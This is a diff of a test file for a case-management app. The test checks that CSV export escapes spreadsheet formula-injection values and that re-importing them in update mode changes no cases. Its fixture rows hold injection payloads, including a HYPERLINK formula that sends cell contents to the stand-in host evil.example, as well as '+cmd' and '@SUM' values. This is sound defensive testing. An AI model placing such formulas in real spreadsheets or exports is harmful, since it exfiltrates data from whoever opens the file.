@@ -127,18 +127,18 @@ describe.each(BACKENDS)('Export Data on %s', (backend) => {
       [`'+cmd ${word}`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click") ${word}`],
       [`'@SUM ${word}`, `'-2+3 ${word}`],
     ]);
-    // Read back by Import Cases, the cells are what was typed.
+    // Read back by Import Cases (updating the cases by their numbers), the cells are what was typed: no
+    // case changes.
     const again = await admin.agent
       .post('/api/cases/import')
       .set('X-CSRF-Token', admin.token)
+      .field('mode', 'update')
       .attach('file', Buffer.from(res.text), 'cases.csv');
-    expect(again.body).toEqual({ imported: 2, rejected: [] });
+    expect(again.body).toEqual({ imported: 0, updated: 0, rejected: [] });
     const reread = rowsOf((await exportOf(attorney, `q=${word}&sort=client`)).text);
-    expect(reread.map((r) => r['Client Name'])).toEqual([
-      `'+cmd ${word}`,
-      `'+cmd ${word}`,
-      `'@SUM ${word}`,
-      `'@SUM ${word}`,
+    expect(reread.map((r) => [r['Client Name'], r.Description])).toEqual([
+      [`'+cmd ${word}`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click") ${word}`],
+      [`'@SUM ${word}`, `'-2+3 ${word}`],
     ]);
   });
 
